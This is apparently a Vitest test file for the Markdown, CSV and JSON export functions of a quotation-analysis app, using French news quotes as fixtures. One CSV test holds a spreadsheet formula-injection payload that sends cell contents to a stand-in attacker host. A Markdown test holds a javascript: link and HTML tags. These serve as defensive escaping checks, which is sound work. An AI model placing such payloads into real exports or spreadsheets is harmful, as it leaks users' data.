import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, parseJsonExport, toCsv, toJson, toMarkdown } from '../../../utils/export';
import { SEED_TITLE, seedAnalysis } from './fixture';
import { parseCsv } from '../csv';

const SOURCE = { title: SEED_TITLE, url: 'https://www.quotidien-du-monde.example/international/choigou.html', partial: false };

describe('Markdown export', () => {
  const markdown = toMarkdown(seedAnalysis(), SOURCE);

  it('has a title, the source and a speaker table most quoted first', () => {
    expect(markdown.split('\n')[0]).toBe(`# QuoteLens analysis: ${SEED_TITLE}`);
    expect(markdown).toContain(`Source: <${SOURCE.url}>`);
    const rows = markdown.split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| Name'));
    expect(rows.map((r) => r.split(' | ')[0].slice(2))).toEqual(['Sergueï Choïgou', 'David Barnea', 'Moscou', 'Hossein Amir-Abdollahian']);
    expect(rows[0]).toContain('| 7 (54 %) |');
  });

  it('lists every statement with its speaker and verb, and the totals', () => {
    expect(markdown.split('\n').filter((l) => l.startsWith('1. ')).length).toBe(13);
    expect(markdown).toContain('1. **David Barnea** (a affirmé): Téhéran avait fourni à Moscou');
    expect(markdown).toContain('- Direct: 2 · Partly quoted: 3 · Reported: 7 · According to: 1');
  });

  it('escapes page text that would be Markdown or HTML', () => {
    const analysis = seedAnalysis();
    analysis.speakers[0].name = '[x](javascript:alert(1)) <b>*bold*</b> | cell';
    const md = toMarkdown(analysis);
    expect(md).toContain('\\[x\\](javascript:alert(1)) \\<b\\>\\*bold\\*\\</b\\> \\| cell');
  });
});

describe('CSV export', () => {
  it('writes one row per statement with a header, in text order', () => {
    const rows = parseCsv(toCsv(seedAnalysis()));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.length).toBe(14);
    expect(rows[1].slice(0, 7)).toEqual(['q1', 'Sergueï Choïgou', 'person', 'ministre russe de la Défense', 'RU', 'indirect', 'a salué']);
    expect(rows[4][CSV_COLUMNS.indexOf('via')]).toBe('cité par le ministère russe de la Défense');
  });

  it('neutralises a formula in a speaker name and keeps it one cell', () => {
    const analysis = seedAnalysis();
    const payload = '=HYPERLINK("http://evil.example/?d="&A1,"Sergueï, click")';
    analysis.speakers[0].name = payload;
    const csv = toCsv(analysis);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Sergueï, click"")"`);
    const rows = parseCsv(csv);
    expect(rows[1][1]).toBe(`'${payload}`);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it.each([
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['plain', 'plain'],
    ['a "quoted" word', '"a ""quoted"" word"'],
    ['two\nlines', '"two\nlines"'],
  ])('cell %j → %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('writes numbers as numbers, even negative ones, and empty cells for null', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });
});

describe('JSON export', () => {
  it('round-trips the analysis and its source', () => {
    const analysis = seedAnalysis();
    const back = parseJsonExport(toJson(analysis, SOURCE));
    expect(back?.analysis).toEqual(analysis);
    expect(back?.source).toEqual(SOURCE);
  });

  it('refuses JSON that is not a QuoteLens export', () => {
    expect(parseJsonExport('{"quotes":[]}')).toBeNull();
    expect(parseJsonExport('not json')).toBeNull();
  });
});
